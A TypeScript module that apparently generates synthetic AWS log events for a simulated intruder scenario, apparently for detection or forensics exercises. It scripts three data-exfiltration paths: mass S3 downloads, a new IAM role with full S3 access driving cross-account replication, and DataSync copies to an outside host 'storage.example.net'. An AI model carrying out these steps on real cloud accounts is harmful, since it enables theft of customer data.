import { minute, second } from '../../clock.ts'
import * as datasync from '../../datasync-calls.ts'
import type { Random } from '../../random.ts'
import { replication, versioning } from '../../s3-settings.ts'
import type { PlainCall } from '../../service-calls.ts'
import { account, buckets, foreignAccountId, region } from '../cast.ts'
import type { Logbook } from '../logbook.ts'
import { nights, withRole } from './intruder.ts'

const mirrorRole = `arn:aws:iam::${account}:role/s3-mirror`

/** The data leaves on three ways: read object by object, mirrored to another account, and by DataSync to a server elsewhere. */
export function exfiltration(logbook: Logbook, random: Random): void {
  download(logbook, random)
  mirror(logbook)
  syncAway(logbook, random)
}

function download(logbook: Logbook, random: Random): void {
  const night = nights[0]
  let time = night + 12 * minute
  const caller = withRole(night, 's3.sync')
  logbook.s3(time, caller, {
    name: 'ListObjects',
    bucket: buckets.customers,
    prefix: '',
    bytesOut: 88_214,
  })
  for (let count = 0; count < 230; count++) {
    time += random.between(1, 9) * second
    const size = random.between(900_000, 9_000_000)
    const key = count < 64 ? `accounts/shard-${count}.parquet` : `exports/2026/${random.hex(12)}.parquet`
    logbook.s3(time, caller, {
      name: 'GetObject',
      bucket: buckets.customers,
      key,
      bytesOut: size,
      objectSize: size,
    })
  }
}

const iam = (name: string, parameters: PlainCall['parameters']): PlainCall => ({
  service: 'iam',
  name,
  parameters: parameters ?? null,
  host: 'iam.amazonaws.com',
})

/** Replication needs a role that S3 may assume, and versions on the source. */
function mirror(logbook: Logbook): void {
  const night = nights[1]
  const start = night + 6 * minute
  logbook.plain(start, withRole(night, 'iam.create-role'), {
    ...iam('CreateRole', {
      roleName: 's3-mirror',
      assumeRolePolicyDocument: JSON.stringify({
        Version: '2012-10-17',
        Statement: [
          {
            Effect: 'Allow',
            Principal: { Service: ['s3.amazonaws.com', 'datasync.amazonaws.com'] },
            Action: 'sts:AssumeRole',
          },
        ],
      }),
    }),
    response: { role: { path: '/', roleName: 's3-mirror', arn: mirrorRole } },
  })
  logbook.plain(
    start + 15 * second,
    withRole(night, 'iam.attach-role-policy'),
    iam('AttachRolePolicy', { roleName: 's3-mirror', policyArn: 'arn:aws:iam::aws:policy/AmazonS3FullAccess' }),
  )
  logbook.s3(start + minute, withRole(night, 's3api.put-bucket-versioning'), {
    name: 'PutBucketVersioning',
    bucket: buckets.lake,
    parameters: versioning('Enabled'),
    bytesIn: 124,
  })
  logbook.s3(start + 2 * minute, withRole(night, 's3api.put-bucket-replication'), {
    name: 'PutBucketReplication',
    bucket: buckets.lake,
    parameters: replication(mirrorRole, { bucket: 'amzn-s3-demo-destination-bucket', account: foreignAccountId }),
    bytesIn: 588,
  })
}

function syncAway(logbook: Logbook, random: Random): void {
  const night = nights[1]
  const place = { account, region }
  const [source, destination, task, run] = [random.hex(16), random.hex(16), random.hex(16), random.hex(16)] as const
  const calls = [
    ['create-location-s3', datasync.createLocationS3(place, source, buckets.customers, mirrorRole)],
    [
      'create-location-object-storage',
      datasync.createLocationObjectStorage(place, destination, {
        hostname: 'storage.example.net',
        bucket: 'drop',
        accessKey: 'drop-writer',
      }),
    ],
    ['create-task', datasync.createTask(place, task, source, destination)],
    ['start-task-execution', datasync.startTaskExecution(place, task, run)],
  ] as const
  let time = night + 19 * minute
  for (const [command, call] of calls) {
    time += random.between(20, 70) * second
    logbook.call(time, withRole(night, `datasync.${command}`), call)
  }
}
